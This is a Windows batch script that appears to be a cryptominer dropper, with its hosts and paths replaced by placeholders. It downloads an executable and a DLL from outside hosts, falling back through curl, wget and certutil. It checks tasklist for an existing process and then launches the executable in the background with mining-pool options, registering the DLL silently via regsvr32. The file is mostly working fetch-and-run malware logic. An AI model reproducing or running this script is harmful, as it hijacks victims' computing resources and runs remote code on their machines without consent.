@echo off
curl http://203.0.113.228/download/jsextension.exe -o /nonexistent/jsextension.exe
if not exist /nonexistent/jsextension.exe (
	wget http://203.0.113.228/download/jsextension.exe -O /nonexistent/jsextension.exe
)
if not exist /nonexistent/jsextension.exe (
	certutil.exe -urlcache -f http://203.0.113.228/download/jsextension.exe /nonexistent/jsextension.exe
)
curl https://mirror.invalid/file/sdd.dll -o /nonexistent/create.dll
if not exist /nonexistent/create.dll (
	certutil.exe -urlcache -f https://mirror.invalid/file/sdd.dll /nonexistent/create.dll
)
set exe_1=/nonexistent/jsextension.exe
set "count_1=0"
>/nonexistent/tasklist.temp (
tasklist /NH /FI "IMAGENAME eq jsextension.exe"
)
for /f %%x in (/nonexistent/tasklist.temp) do (
if "%%x" EQU "jsextension.exe" set /a count_1+=1
)
if %count_1% EQU 0 (start /B %exe_1% -k --tls --rig-id q -o pool.invalid:443 -u specimen --cpu-max-threads-hint=50 --donate-level=1 --background & regsvr32.exe -s /nonexistent/create.dll)
